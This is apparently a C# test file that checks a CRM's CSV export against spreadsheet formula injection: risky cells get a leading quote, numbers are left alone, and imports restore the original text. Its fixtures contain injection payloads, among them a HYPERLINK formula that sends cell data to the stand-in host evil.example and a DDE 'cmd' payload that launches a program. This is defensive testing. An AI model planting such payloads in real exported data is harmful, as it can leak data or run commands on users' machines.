using System.Text;
using Crm.Data.Csv;
using Crm.Data.Entities;
using FsCheck;
using FsCheck.Fluent;
using Microsoft.EntityFrameworkCore;

namespace Crm.Data.Tests.BadInput;

/// <summary>
/// Formula injection (OWASP "CSV injection") in the files <c>./crm export</c> writes: text a spreadsheet would run is
/// written behind a single quote, numbers are written as they are, and the importer takes the quote off again so an
/// export imports back exactly.
/// </summary>
public sealed class FormulaExportTests : IAsyncLifetime
{
    /// <summary>Generated cases per run (see docs/reliability-badinput.md).</summary>
    public const int NeutraliseCases = 1000;
    public const int RoundTripCases = 40;

    private static readonly string[] _formulas =
        ["=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Click\")", "+1", "-cmd|' /C calc'!A0", "@SUM(A1)", "=1+1", "'=quoted already", "''+two quotes"];

    private SqliteDatabase _database = null!;

    public async Task InitializeAsync()
    {
        _database = await SqliteDatabase.CreateAsync();
        await _database.AddBasicsAsync();
    }

    public async Task DisposeAsync() => await _database.DisposeAsync();

    [Fact]
    public void Every_text_comes_back_exactly_and_no_neutralised_cell_starts_a_formula()
    {
        // Text that starts like a formula, a quote or a number, followed by anything.
        var starts = Gen.Elements("", "=", "+", "-", "@", "\t", "\r", "'", "''", "'=", "''-", "-5", "+86", "1", "-1.5", "-.5", "+-1", "@@");
        var text = from start in starts
                   from rest in ArbMap.Default.GeneratorFor<string>()
                   select start + (rest ?? "");

        Check.One(Fuzz.Config(NeutraliseCases), Prop.ForAll(text.ToArbitrary(), s =>
        {
            var cell = SpreadsheetText.Neutralise(s);
            return SpreadsheetText.Restore(cell) == s && (!StartsFormula(cell) || IsNumber(cell));
        }));
    }

    [Theory]
    [InlineData("=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")")]
    [InlineData("+1", "+1")] // a number: Excel reads 1, runs nothing
    [InlineData("+1 (555)", "'+1 (555)")]
    [InlineData("-cmd", "'-cmd")]
    [InlineData("-5", "-5")]
    [InlineData("-1.25", "-1.25")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "'\r=1")]
    [InlineData("'=x", "''=x")]
    [InlineData("'x", "'x")]
    [InlineData("O'Brien = boss", "O'Brien = boss")]
    public void A_cell_a_spreadsheet_would_run_gets_a_quote_and_a_number_does_not(string text, string cell)
    {
        Assert.Equal(cell, SpreadsheetText.Neutralise(text));
        Assert.Equal(text, SpreadsheetText.Restore(cell));
    }

    [Fact]
    public async Task Companies_and_people_named_like_formulas_export_neutralised_and_import_back_exactly()
    {
        await AddCompaniesAsync(_formulas);
        await Import("contacts", "code,company,name,phone\nP000001,F0,Zhang Wei,+86 21 5555 0000\nP000002,F1,-Li Fang,+8613800001111\n");
        await Import("buyers", "edition,company_code,province,city,sector_code,wanted_categories,budget_usd\n8,F2,上海,上海,FOOD,FA-DAIRY,2500000.5\n");

        var companies = await ExportAsync("companies");
        var contacts = await ExportAsync("contacts");
        var buyers = await ExportAsync("buyers");

        Assert.Contains("\nF0,\"'=HYPERLINK(\"\"http://evil.example/?q=\"\"&A1,\"\"Click\"\")\",", companies);
        Assert.Contains("\nF1,+1,", companies); // a plain number is no formula
        Assert.Contains("\nF2,'-cmd|' /C calc'!A0,", companies);
        Assert.Contains("\nF3,'@SUM(A1),", companies);
        Assert.Contains("\nF5,''=quoted already,", companies);
        Assert.Contains(",'+86 21 5555 0000,", contacts);
        Assert.Contains(",'-Li Fang,", contacts);
        Assert.Contains(",+8613800001111,", contacts);
        Assert.Contains(",2500000.5", buyers); // numbers as they are

        // Into an empty database and out again: the same values, the same bytes.
        await using var other = await SqliteDatabase.CreateAsync();
        await other.AddBasicsAsync();
        foreach (var (kind, file) in new[] { ("companies", companies), ("contacts", contacts), ("buyers", buyers) })
        {
            var result = await new CsvImporter(other).ImportAsync(kind, new MemoryStream(Encoding.UTF8.GetBytes(file)), kind + ".csv", ImportMode.AllOrNothing);
            Assert.True(result.Written, string.Join("; ", result.Errors));
        }
        await using (var db = other.CreateDbContext())
        {
            var names = await db.Companies.Where(c => c.Code.StartsWith("F")).OrderBy(c => c.Code).Select(c => c.Name).ToListAsync();
            Assert.Equal(_formulas, names);
            Assert.Equal(["+86 21 5555 0000", "+8613800001111"], await db.Contacts.OrderBy(c => c.Code).Select(c => c.Phone).ToListAsync());
        }
        Assert.Equal(companies, await ExportAsync("companies", other));
        Assert.Equal(contacts, await ExportAsync("contacts", other));
        Assert.Equal(buyers, await ExportAsync("buyers", other));
    }

    [Fact]
    public async Task Any_company_name_survives_export_and_import_exactly()
    {
        await AddCompaniesAsync(["placeholder"]);
        // Names as a form keeps them (trimmed, not empty, at most 200 characters), rich in formula starts, quotes,
        // separators and line breaks.
        var pieces = Gen.Elements("=", "+", "-", "@", "'", "\"", ",", ";", "\n", "\r\n", "\t", " ", "1", "-5", "a", "Z", "进博会", "é", "SUM(A1)", "|");
        var names = Gen.ListOf(pieces).Select(p => string.Concat(p).Trim()).Where(n => n.Length is > 0 and <= 200);

        Check.One(Fuzz.Config(RoundTripCases), Prop.ForAll(names.ToArbitrary(), name => Run(async () =>
        {
            await SetNameAsync(name);
            var file = await ExportAsync("companies");
            await SetNameAsync("changed");

            var result = await Import("companies", file);

            Assert.True(result.Written && result.Errors.Count == 0, string.Join("; ", result.Errors));
            await using var db = _database.CreateDbContext();
            Assert.Equal(name, await db.Companies.Where(c => c.Code == "F0").Select(c => c.Name).SingleAsync());
        })));
    }

    private async Task SetNameAsync(string name)
    {
        await using var db = _database.CreateDbContext();
        await db.Companies.Where(c => c.Code == "F0").ExecuteUpdateAsync(s => s.SetProperty(c => c.Name, name));
    }

    private async Task AddCompaniesAsync(IEnumerable<string> names)
    {
        await using var db = _database.CreateDbContext();
        db.Companies.AddRange(names.Select((name, i) => new Company { Code = $"F{i}", Name = name, NameZh = "公式" + i, CountryCode = "DE", SectorCode = "FOOD" }));
        await db.SaveChangesAsync();
    }

    private Task<ImportResult> Import(string kind, string csv) =>
        new CsvImporter(_database).ImportAsync(kind, new MemoryStream(Encoding.UTF8.GetBytes(csv)), kind + ".csv", ImportMode.AllOrNothing);

    private async Task<string> ExportAsync(string kind, SqliteDatabase? database = null)
    {
        using var buffer = new MemoryStream();
        await new CsvExporter(database ?? _database).ExportAsync(CsvKinds.Find(kind)!, buffer);
        return Encoding.UTF8.GetString(buffer.ToArray());
    }

    private static bool StartsFormula(string cell) => cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r';

    private static bool IsNumber(string cell) => System.Text.RegularExpressions.Regex.IsMatch(cell, @"^[+-]?[0-9]+(\.[0-9]+)?\z");

    /// <summary>Runs an async check to completion off the test's synchronization context (FsCheck properties are synchronous).</summary>
    private static void Run(Func<Task> check) => Task.Run(check).GetAwaiter().GetResult();
}
